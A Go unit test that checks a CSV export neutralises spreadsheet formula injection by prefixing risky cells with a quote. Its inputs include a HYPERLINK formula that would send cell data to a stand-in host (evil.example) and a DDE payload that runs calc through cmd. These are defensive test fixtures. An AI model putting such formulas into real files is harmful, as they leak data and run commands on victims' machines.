package api

import (
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestCSVFormulaNeutralised: text cells that a spreadsheet would evaluate
// get a leading quote; numbers, dates and plain text are unchanged.
func TestCSVFormulaNeutralised(t *testing.T) {
	res := &result{columns: []string{"v", "n"}}
	cases := []struct {
		in   any
		want string
	}{
		{`=HYPERLINK("http://evil.example/?x="&A1,"点击")`, `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{[]any{"=1", "a"}, "'=1|a"},
		{"科左中旗", "科左中旗"},
		{"2026-08-31", "2026-08-31"},
		{"", ""},
		{-1.5, "-1.5"},
		{int64(-3), "-3"},
		{nil, ""},
	}
	for _, c := range cases {
		res.rows = append(res.rows, []any{c.in, 1.0})
	}
	w := httptest.NewRecorder()
	res.writeCSV(w, "/api/alarms/rule")
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\uFEFF"))).ReadAll()
	if err != nil || len(recs) != len(cases)+1 {
		t.Fatalf("CSV: %v %q", err, w.Body.String())
	}
	for i, c := range cases {
		if got := recs[i+1][0]; got != c.want {
			t.Errorf("cell %q written as %q, want %q", c.in, got, c.want)
		}
	}
}
